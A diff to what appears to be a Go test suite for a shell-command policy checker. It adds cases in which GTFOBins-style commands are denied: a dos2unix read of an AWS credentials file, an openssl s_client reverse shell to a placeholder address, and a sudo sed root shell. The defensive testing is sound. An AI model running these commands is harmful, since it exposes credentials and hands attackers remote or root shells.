@@ -185,3 +185,16 @@ func TestClassR19GTFOSudoEscapes(t *testing.T) {
 		{src: `sudo chown root:root /usr/bin/tool`, decision: Ask, source: "handing a file back to root"},
 	})
 }
+
+// Smaller GTFOBins spellings: dos2unix -O prints (reads, does not rewrite) its file, an
+// interactive shell piped into openssl s_client is a reverse shell, and sed's e command under
+// sudo that starts a shell is a root shell.
+func TestClassR19GTFOSmallSpellings(t *testing.T) {
+	runGTFOCases(t, []gtfoCase{
+		{src: `dos2unix -f -O /home/ana/.aws/credentials`, decision: Deny, rule: "cred.read", source: "GTFOBins dos2unix file-read"},
+		{src: `mkfifo /tmp/q; sh -i < /tmp/q 2>&1 | openssl s_client -quiet -connect 192.0.2.15:8443 > /tmp/q`, decision: Deny, rule: "net.reverse-shell", source: "GTFOBins openssl reverse-shell"},
+		{src: `sudo sed -n '1e exec bash 1>&0' /etc/hostname`, decision: Deny, source: "GTFOBins sed shell (sudo)"},
+		{src: `dos2unix -O scripts/build.sh > build/build.sh`, decision: Allow, source: "dos2unix(1) -O"},
+		{src: `echo | openssl s_client -connect example.com:443 -servername example.com`, decision: Allow, source: "docs/policy.md: openssl s_client certificate checks"},
+	})
+}
